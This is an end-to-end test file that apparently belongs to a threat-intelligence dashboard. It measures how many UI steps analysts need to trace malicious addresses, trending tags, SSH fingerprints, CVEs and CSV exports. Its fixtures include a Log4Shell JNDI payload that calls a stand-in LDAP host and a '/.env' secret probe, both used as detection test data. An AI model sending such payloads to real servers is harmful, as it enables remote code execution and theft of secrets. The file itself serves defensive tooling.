import { readFile } from 'node:fs/promises'
import type { Browser, Page } from 'playwright-core'
import { afterAll, beforeAll, expect, test } from 'vitest'
import type { Exchange } from '#demo/exchange.ts'
import { random } from '#demo/random.ts'
import { sshClients, sshOpening } from '#demo/speak/ssh.ts'
import { syn } from '#demo/speak/syn.ts'
import { captureOf, counted, upload, waitUntilIdle, webVisit } from '../product/captures.ts'
import { noon } from '../product/noon.ts'
import { type Inside, openInside } from '../product/inside.ts'
import { daysChart } from './days-chart.ts'
import { openBrowser } from './open.ts'
import { alive, visit } from './visitor.ts'

/** What an analyst comes for, each in as few steps as are counted here: a press, a text that is typed or pasted, a row that is chosen. */

let product: Inside
let browser: Browser
const { now, clock } = noon()
const dayMs = 86_400_000
const rows = 10_000
const probe = '/.env'
const exploit = '/?x=${jndi:ldap://203.0.113.66/a}'
const attacker = '198.18.7.1'

beforeAll(async () => {
  ;[product, browser] = await Promise.all([openInside({}, {}, clock), openBrowser()])
  const many = Array.from({ length: rows }, (_, at) =>
    webVisit(`198.19.${at >> 8}.${at & 255}`, { uri: '/' }, now - 3 * dayMs - at * 7),
  )
  const surge = Array.from({ length: 40 }, (_, at) => `198.18.8.${at + 1}`).flatMap((source) => [
    webVisit(source, { uri: probe }, now - dayMs - 5003),
    webVisit(source, { uri: probe }, now - 2 * dayMs - 7001),
  ])
  // What was seen before makes a surge of it.
  const before = [0, 1, 2, 8, 9].map((days) =>
    webVisit(attacker, { uri: probe }, now - days * dayMs - (days + 1) * 1009),
  )
  const tool = ['198.18.9.1', '198.18.9.2', '198.18.9.3'].map((source, at): Exchange => ({
    ...webVisit(source, { uri: '/' }, now - dayMs - at * 1013),
    destinationPort: 22,
    play: {
      kind: 'tcp',
      outcome: 'open',
      syn: syn.linux,
      turns: sshOpening(sshClients.libssh, random('tool')),
    },
  }))
  await upload(
    product,
    captureOf([...many, ...surge, ...before, ...tool, webVisit(attacker, { uri: exploit }, now - 60_007)]),
  )
  await waitUntilIdle(product)
  await counted(product, (text) => text.includes('env-crawler'))
})
afterAll(async () => {
  await browser?.close()
  await product?.close()
})

const search = (page: Page) => page.getByRole('dialog', { name: 'Search' })

type Step = (act: () => Promise<unknown>) => Promise<void>

/** Somebody begins at a page; every `step` of theirs counts. @returns how many it took */
async function stepsFrom(path: string, task: (page: Page, step: Step) => Promise<void>): Promise<number> {
  const { page, problems, leave } = await visit(browser, product.url)
  await page.goto(path)
  await alive(page)
  let steps = 0
  await task(page, async (act) => {
    steps += 1
    await act()
  })
  await leave()
  expect(problems).toEqual([])
  return steps
}

test('a line of a log leads to what to block in three steps', async () => {
  const steps = await stepsFrom('/tags', async (page, step) => {
    await step(() => page.keyboard.press('Control+k'))
    const field = search(page).getByLabel('An address or a query')
    await step(() => field.fill(`Nov 20 21:40:12 web nginx: ${attacker} - - "GET ${probe} HTTP/1.1" 404`))
    await step(() => page.keyboard.press('Enter'))
    await page.waitForURL(`**/ip/${attacker}`)
    await page.getByRole('heading', { level: 1, name: attacker }).waitFor()
    await page.getByText('Malicious', { exact: true }).first().waitFor()
  })
  expect(steps).toBe(3)
})

test('which tag surged is seen in one step', async () => {
  const steps = await stepsFrom('/', async (page, step) => {
    await step(() =>
      page.getByRole('navigation', { name: 'Query' }).getByRole('link', { name: 'Trends' }).click(),
    )
    await page.waitForURL('**/trends/trending')
    await page.getByRole('rowheader', { name: 'ENV Crawler' }).waitFor()
    await page
      .getByText(/^from 1 to 41 a day/)
      .first()
      .waitFor()
  })
  expect(steps).toBe(1)
})

test('who else uses a fingerprint is one step from an address that shows it', async () => {
  const steps = await stepsFrom('/ip/198.18.9.1', async (page, step) => {
    await step(() => page.getByRole('link', { name: '2 other addresses' }).click())
    await page.waitForURL('**/query/raw_data.hassh.fingerprint*')
    for (const other of ['198.18.9.2', '198.18.9.3'])
      await page.getByRole('link', { name: other, exact: true }).waitFor()
  })
  expect(steps).toBe(1)
})

test('two ranges of days of a query are compared in three steps', async () => {
  const steps = await stepsFrom(`/query/${encodeURIComponent(`path:"${probe}"`)}`, async (page, step) => {
    /** From one day to another, as many days ago. */
    const choose = async (from: number, to: number): Promise<void> => {
      const { over } = await daysChart(page)
      await page.mouse.move(...over(from))
      await page.mouse.down()
      await page.mouse.move(...over(to), { steps: 4 })
      await page.getByText(/^Enter or let go: /).waitFor()
      await page.mouse.up()
    }
    await page.getByText('41 IPs', { exact: true }).waitFor()
    await step(() => choose(9, 7))
    await page.getByText('1 IP', { exact: true }).waitFor()
    await step(() => page.goBack())
    await page.getByText('41 IPs', { exact: true }).waitFor()
    await step(() => choose(6, 0))
    await page.waitForURL((url) => /last_seen:>=\S+ first_seen:<=/.test(decodeURIComponent(url.pathname)))
    await page.getByText('41 IPs', { exact: true }).waitFor()
  })
  expect(steps).toBe(3)
})

test('a CVE is found by the name of its product in three steps', async () => {
  const steps = await stepsFrom('/', async (page, step) => {
    await step(() => page.keyboard.press('Control+k'))
    await step(() => search(page).getByLabel('An address or a query').fill('log4j'))
    await step(() => search(page).getByRole('option').filter({ hasText: 'CVE-2021-44228' }).first().click())
    await page.waitForURL('**/cves/CVE-2021-44228')
  })
  expect(steps).toBe(3)
})

test('why an address is malicious is read down to its request in one step', async () => {
  const steps = await stepsFrom(`/ip/${attacker}`, async (page, step) => {
    await step(() =>
      page
        .getByRole('link', { name: /^What matched of .*Log4/ })
        .first()
        .click(),
    )
    await page.getByRole('region', { name: 'Why?' }).getByText(exploit, { exact: false }).first().waitFor()
  })
  expect(steps).toBe(1)
})

test('ten thousand rows of the three columns shown are a file in two steps', async () => {
  const steps = await stepsFrom('/query/ip%3A198.19.0.0%2F16?cols=ip,class,last_seen', async (page, step) => {
    await page.getByText('10,000 IPs', { exact: true }).first().waitFor()
    await step(() => page.locator('main').getByText('Export', { exact: true }).click())
    const [file] = await Promise.all([
      page.waitForEvent('download'),
      step(() => page.getByRole('link', { name: 'Columns shown as CSV' }).click()),
    ])
    const [heads, ...lines] = (await readFile(await file.path(), 'utf8')).trimEnd().split('\r\n')
    expect(heads?.split(',')).toEqual(['ip', 'classification', 'last_seen_timestamp'])
    expect(new Set(lines.map((line) => line.split(',')[0])).size).toBe(rows)
  })
  expect(steps).toBe(2)
})
